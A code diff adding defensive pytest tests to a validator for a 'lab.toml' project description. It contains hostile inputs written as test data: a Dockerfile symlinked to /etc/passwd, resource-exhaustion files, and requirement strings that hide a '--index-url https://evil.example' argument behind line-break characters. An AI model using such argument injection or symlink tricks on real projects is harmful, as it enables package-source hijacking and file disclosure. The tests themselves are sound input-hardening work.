@@ -1,5 +1,6 @@
 """lab.toml: what it may say, and what is said of the rest."""
 
+import os
 import re
 from pathlib import Path
 
@@ -142,3 +143,47 @@ def test_describing_needs_no_file(tmp_path: Path) -> None:
 def test_a_flag_among_the_variables_is_told_how_to_write_it(tmp_path: Path) -> None:
     said = refused(tmp_path, 'command = "a"\nenvironment = { DEBUG = true }\n')
     assert said.endswith(': quote it, DEBUG = "true"')
+
+
+def test_a_pipe_or_a_device_is_no_description(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "lab.toml")
+
+    with pytest.raises(UsageError, match="it is a named pipe, a regular file is expected"):
+        read_spec(tmp_path)
+
+    (tmp_path / "lab.toml").unlink()
+    (tmp_path / "lab.toml").symlink_to("/dev/zero")
+    with pytest.raises(UsageError, match="leads out of its folder"):
+        read_spec(tmp_path)
+
+
+def test_a_description_is_bounded_in_size_and_in_depth(tmp_path: Path) -> None:
+    assert "nested too deeply" in refused(tmp_path, f"command = {'[' * 100_000}")
+    with (tmp_path / "lab.toml").open("wb") as file:
+        file.truncate(8 << 30)
+
+    with pytest.raises(UsageError, match="at most 1,048,576 are read"):
+        read_spec(tmp_path)
+
+
+def test_a_dockerfile_that_leads_out_of_the_folder_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "Dockerfile").symlink_to("/etc/passwd")
+
+    assert "Dockerfile leads out of its folder" in refused(tmp_path, COMMAND)
+
+
+def test_a_folder_may_be_reached_by_a_symlink(tmp_path: Path) -> None:
+    (tmp_path / "real").mkdir()
+    (tmp_path / "real" / "lab.toml").write_text(COMMAND, encoding="utf-8")
+    (tmp_path / "link").symlink_to("real")
+
+    assert read_spec(tmp_path / "link").command == "python app.py"
+
+
+@pytest.mark.parametrize(
+    "mark", ["\\v", "\\f", "\\u001c", "\\u0085", "\\u2028", "\\u2029", "\\r", "\\n"]
+)
+def test_a_requirement_is_one_line_to_pip(tmp_path: Path, mark: str) -> None:
+    text = COMMAND + f'requirements = ["flask{mark}--index-url https://evil.example"]\n'
+
+    assert "requirements = " in refused(tmp_path, text.replace("\\v", "\\u000b"))
